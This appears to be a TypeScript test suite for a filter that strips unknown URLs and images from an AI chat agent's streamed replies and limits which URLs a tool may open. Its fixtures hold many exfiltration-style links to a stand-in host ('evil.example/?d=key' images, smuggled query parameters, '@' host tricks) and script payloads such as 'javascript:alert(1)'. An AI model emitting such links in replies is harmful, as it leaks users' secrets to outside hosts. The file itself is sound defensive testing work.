import { expect } from 'chai';
import fc from 'fast-check';
import { marked } from 'marked';
import { createLinkFilter, removeLinks } from '#src/domain/chat/link-filter.ts';
import { extractUrls, isUrlInTexts } from '#src/domain/chat/urls.ts';
import { propertyRuns } from '#test/support/seeded.ts';

const known = 'https://bank.example/rates?year=2026';
const other = 'https://docs.example/reset?key=7';
const tooLong = `https://evil.example/${'a'.repeat(3_000)}`;

function rewrite(reply: string | readonly string[]): string {
  const filter = createLinkFilter(new Set([known, other]));
  return [reply].flat().map(filter.add).join('') + filter.end();
}

describe('URLs in a reply', () => {
  it('are removed unless they are in the set of known URLs, and images become plain links even then', () => {
    for (const [said, shown] of [
      ['See ![a chart](https://evil.example/?d=key).', 'See ! [a chart] (link removed).'],
      [`![chart](${known})`, `! [chart](${known})`],
      ['[Terms](https://evil.example/key) apply', '[Terms] (link removed) apply'],
      ['[Terms](<https://evil.example/key> "now")', '[Terms] (link removed)'],
      ['[a](https://evil.example/b_(c))!', '[a] (link removed)!'],
      [`[a](${known}\ufeff"x.evil.example/key")`, '[a] (link removed)'],
      [`[Rates](${known}&d=key)`, '[Rates] (link removed)'],
      [`[Rates](${known})[1]`, `[Rates](${known}) [1]`],
      [`](${known})1. `, `](${known}) 1. `],
      ['![a][b]\n\n[b]: https://evil.example/key', '! [a][b]\n\n[b] : (link removed)'],
      ['Go to https://evil.example/?d=key, now.', 'Go to (link removed), now.'],
      ['Go to www.evil.example/key or ww.', 'Go to (link removed) or ww.'],
      ['Open ms-word:ofu|u|x://evil.example', 'Open ms-word:ofu|u|x (link removed)'],
      [String.raw`https:\/\/evil.example/key`, '(link removed)'],
      ['mailto:eve@evil.example?body=key', '(link removed)'],
      [`[${known}](${known})`, `[${known} ](${known})`],
      [`${known}](${other})`, `${known} ](${other})`],
      [`${known}"<3key"`, `${known} "<3key"`],
      [`](${known} "![x](https://e.example/k)")`, `](${known})`],
      [`[a](${known} "\n\`\`\`\n")`, `[a](${known})`],
      [`**[a](${known})**[1]`, `**[a](${known})** [1]`],
      [`${known}\ufeff.evil.example/key`, `${known} \ufeff.evil.example/key`],
      [`${known}[1]`, `${known} [1]`],
      ['<https://evil.example/key>', '< (link removed)>'],
      ['<img src=//evil.example/key>', '< img src=//evil.example/key>'],
      ['[a](javascript:alert(1))', '[a] (link removed)'],
      ['![a](data:image/svg+xml,<svg/onload=x>)', '! [a] (data:image/svg+xml,< svg/onload=x>)'],
      ['&#104;ttps&colon;//evil.example', '& #104;ttps& colon;//evil.example'],
      ['[a\n](https://evil.example/k)', '[a\n] (link removed)'],
      ['[1]: https://evil.example/k', '[1] : (link removed)'],
      ['Text\n> - 1. [1]: x', 'Text\n> - 1. [1] : x'],
      ['```\nx\n```  \nhttps://evil.example/k', '```\nx\n```  \n(link removed)'],
      // No reader would make a link of these, which are removed as one.
      [
        `See ${tooLong}, [a](${tooLong}) or [${tooLong}](b).`,
        'See (link removed) [a] ((link removed) or [ (link removed)] (b).',
      ],
    ] as const) {
      expect(rewrite(said), said).equal(shown);
      expect(rewrite(said.split('')), said).equal(shown);
    }
  });

  it('stay if they are known or in a closed code block, and a reply without URLs stays unchanged', () => {
    for (const text of [
      `[Rates](${known} "of 2026") apply`,
      `([Rates](${known})). **[a](${known})**:`,
      `(${known}) **${known}**, "${known}".`,
      'Plain text, with [1], [2, 3]. And a < b, c <= d & e; "f": {g} (h) [i] - 10:30!',
      'According to [1]: the rate is low, and to [2, 3]: it is not.',
      'Text.\n```\nhttps://api.example\n```',
      `${'Plain text. '.repeat(200)}${known} and [Rates](${known})`,
      '````\nhttps://api.example\n```\n````\nend',
      '```\nhttps://api.example\n   ```\n```\nhttps://api.example\n```\nend',
      '```\n    ```\n> ```\n``` js\n``\nhttps://api.example\n```\nend',
      `\`\`\`\nx\n\`\`\`${' '.repeat(197)}\n\`\`\`\nhttps://api.example\n\`\`\``,
      `\`\`\`\n${'-'.repeat(201)}\n\`\`\`\n\`\`\`\nhttps://api.example\n\`\`\``,
      '```html\n<img src="https://api.example/x">\n![a](https://api.example)\n```\nend',
      '~~~\nhttps://api.example\n```\n~~~~\nend',
      '```c++ {1,3-4} title="main.cc"\nhttps://api.example\n```\nend',
      '```objective-c\nhttps://api.example\n```\nend',
    ]) {
      expect(rewrite(text)).equal(text);
      expect(rewrite(text.split(''))).equal(text);
    }
    for (const [length, shown] of [
      [2_048, tooLong.slice(0, 2_048)],
      [2_049, '(link removed)'],
    ] as const) {
      const filter = createLinkFilter(new Set([tooLong.slice(0, length)]));
      expect(filter.add(`${tooLong.slice(0, length)} `) + filter.end()).equal(`${shown} `);
    }
  });

  it('are removed after a code fence if Markdown renderers disagree where its code block ends', () => {
    for (const before of [
      ...['- ```\n', '> ```\n', `\`\`\`${'x'.repeat(198)}\n`, `${'- '.repeat(101)}\n\`\`\`\n`],
      ...[' ```\n```\n', '- ```\n```\n', '$$\n```\n$$\n', '``` a`b\n', '```mermaid\n', '~~~ {.plantuml}\n'],
      ...['```merm&#97;id\n', '```merm\\aid\n', '``` {#chart .mermaid}\n', '``` js title="a" mermaid\n'],
      ...['```c4plantuml\n', '```lang-mermaid\n', '```mmd\n', '```geojson\n', '``` DOT\n', '> ```\n\n```\n'],
      ...['```\n```\u00a0\n```\n', `\`\`\`\n\`\`\`${' '.repeat(201)}\n`, '```\ncode\n```\n'],
      ...[`${'- '.repeat(101)}\`\`\`\n\`\`\`\n`, `${'1'.repeat(199)}\`\`\`\n\`\`\`\n`],
    ]) {
      expect(rewrite(`${before}![a](https://evil.example/k)`), before).not.include('evil.example');
    }
  });

  it('delay only streamed text that may become a URL', () => {
    const filter = createLinkFilter(new Set([known]));
    const pieces = 'The month|ly rate is h|igh: |http|s://evil.example|/key| and| [a]|(x| y'.split('|');
    const shown = 'The month|ly rate is |high: ||||(link removed) and| [a||] (x y'.split('|');
    expect(pieces.map(filter.add)).deep.equal(shown);
    expect(filter.end()).equal('');
    expect(filter.removedCount()).equal(1);
    const inTwo = [`See [${tooLong}]`, '(b).'];
    expect(rewrite(inTwo)).equal(rewrite(inTwo.join('')));
  });

  it('count as known if a given text contains them, apart from punctuation around them, up to 2,048 characters', () => {
    for (const [text, urls] of [
      [`See (${known}), www.bank.example. Mail mailto:a@b.example!`, [known, 'www.bank.example', 'mailto:a@b.example']],
      [
        'https://a.example/x;https://www.b.example/y, c',
        ['https://a.example/x;https://www.b.example/y', 'https://www.b.example/y', 'www.b.example/y'],
      ],
      [tooLong, []],
      [`See ${tooLong.slice(0, 2_048)}`, [tooLong.slice(0, 2_048)]],
      [`See ${tooLong.slice(0, 2_049)}`, []],
    ] as const) {
      expect(extractUrls(text)).deep.equal(urls);
    }
    expect(extractUrls('https://a.example/,'.repeat(20))).length(16);
    expect(removeLinks('Loans at [us](https://evil.example) https://evil.example/a now')).equal('Loans at [us]   now');
  });

  it('are opened by a tool only if the same URL is in a text of the user or of the agent', () => {
    const texts = [
      'You help with https://bank.example/rates?year=2026.',
      'See (example.com/pricing), [the page](https://wiki.example/Loan_(finance)) and "www.bank.example".',
    ];
    for (const url of [
      ...[known, known.replace('https', 'http'), 'https://example.com/pricing', 'https://example.com/pricing/'],
      ...['https://wiki.example/Loan_(finance)', 'https://www.bank.example/', ` ${known} `],
    ]) {
      expect(isUrlInTexts(url, texts), url).equal(true);
    }
    for (const url of [
      ...[
        `${known}&d=secret`,
        'https://bank.example/rates',
        'https://bank.example',
        'https://example.com/pricing/secret',
      ],
      ...['https://evil.example/', `${known})`, 'https://bank.example@evil.example/rates?year=2026', '', 'https://'],
    ]) {
      expect(isUrlInTexts(url, texts), url).equal(false);
    }
  });
});

describe('URLs in very long texts', () => {
  const inPieces = (text: string, size: number) => text.match(new RegExp(`[^]{1,${size}}`, 'g')) ?? [];

  // Quadratic work on any of these does not end within the runner's time limit.
  const length = 1_000_000;

  it('are processed in linear time, both in a reply and in a text from which a reply may repeat URLs', () => {
    for (const run of ['![', '](a', '](a "', ']:', '[1]:', 'www.', 'https://', '.', '`', '1234', '\n```\n']) {
      const text = `https:// https://${run.repeat(length / run.length)}a`;
      for (const part of [text.slice(9), text.slice(17)]) expect(rewrite(part).length).at.least(1);
      expect(extractUrls(text).length).at.least(1);
    }
  });

  it('are processed in linear time in a stream of small pieces', () => {
    for (const [start, run] of [
      ['https://', 'a'],
      ['[a](b', 'c'],
      ['[a](b "', 'c'],
      ...['1234', '- ', '```', '![](b "'].map((run) => ['', run] as const),
    ] as const) {
      expect(rewrite(inPieces(start + run.repeat(length / run.length), 4)).length).at.least(1);
    }
  });

  it('do not hold back a stream: of 2,500 characters, some are passed on before the end', () => {
    for (const run of ['3.14159265358979 ', '2026-11-22 ', '-', '`', 'https://', '[a](b', '[a](b "c', ' ', '> ']) {
      const filter = createLinkFilter(new Set());
      const text = run.repeat(Math.ceil(2_500 / run.length)).slice(0, 2_500);
      expect(text.split('').map(filter.add).join('').length, run).above(0);
    }
  });
});

describe('URLs in random replies', () => {
  const part = fc.constantFrom(
    ...['https://evil.example/', known, other, `](${known} "`, '")', 'www.evil.example', 'mailto:', 'h', 'http'],
    ...['s:', '//', '&#104;ttps://x.example', '![', '!', '[', ']', '](', '(', ')', ']:', ':', '<', '>', '](<'],
    ...['<img src=', '<!--', '-->', '"', "'", '\\', '&', '|', '*', '~~', '```', '~~~', '`', '$$', '    ', '- '],
    ...['> ', '1. ', '# ', '\n', '\n\n', '\r', '\t', '\u00a0', ' ', 'a', '1', '[1]', '😀'],
  );
  const parts = fc.array(part, { maxLength: 30 });
  /** Around the lengths at which the filter stops to hold text back. */
  const longRun = fc
    .record({ sign: fc.constantFrom('a', '1', '.', '-', ' ', '`', ']', '~'), more: fc.nat({ max: 12 }) })
    .chain(({ sign, more }) => fc.constantFrom(190, 2_040, 2_290).map((length) => sign.repeat(length + more)));
  const partOrRun = fc.oneof({ arbitrary: part, weight: 30 }, { arbitrary: longRun, weight: 1 });

  it('do not depend on how the stream is split', () => {
    fc.assert(
      fc.property(fc.array(partOrRun, { maxLength: 30 }), fc.array(fc.nat({ max: 200 })), (text, cuts) => {
        const whole = text.join('');
        const ends = [...cuts.toSorted((a, b) => a - b), undefined];
        const pieces = ends.map((end, index) => whole.slice(ends[index - 1] ?? 0, end));
        const expected = rewrite(whole);
        expect(rewrite(pieces)).equal(expected);
        expect(rewrite(whole.split(''))).equal(expected);
      }),
      { numRuns: propertyRuns(2_000) },
    );
  });

  it('never become images in rendered Markdown, and become links only if they are known', () => {
    fc.assert(
      fc.property(parts, (text) => {
        const html = marked.parse(rewrite(text.join('')), { async: false, gfm: true });
        const shown = html.replaceAll(/<(?:pre|code)[\s\S]*?<\/(?:pre|code)>/g, '');
        expect(shown).not.match(/<img|<!--/);
        const links = Array.from(shown.matchAll(/href="([^"]*)"/g), ([, href = '']) => decodeURI(href));
        // Some readers include the characters that close a sentence.
        const places = links.map((href) => href.replace(/(?:[^\w]|&#?\w+;)+$/, ''));
        const elsewhere = places.filter((href) => href !== known && href !== other);
        expect(elsewhere).deep.equal([]);
      }),
      { numRuns: propertyRuns(2_000) },
    );
  });
});
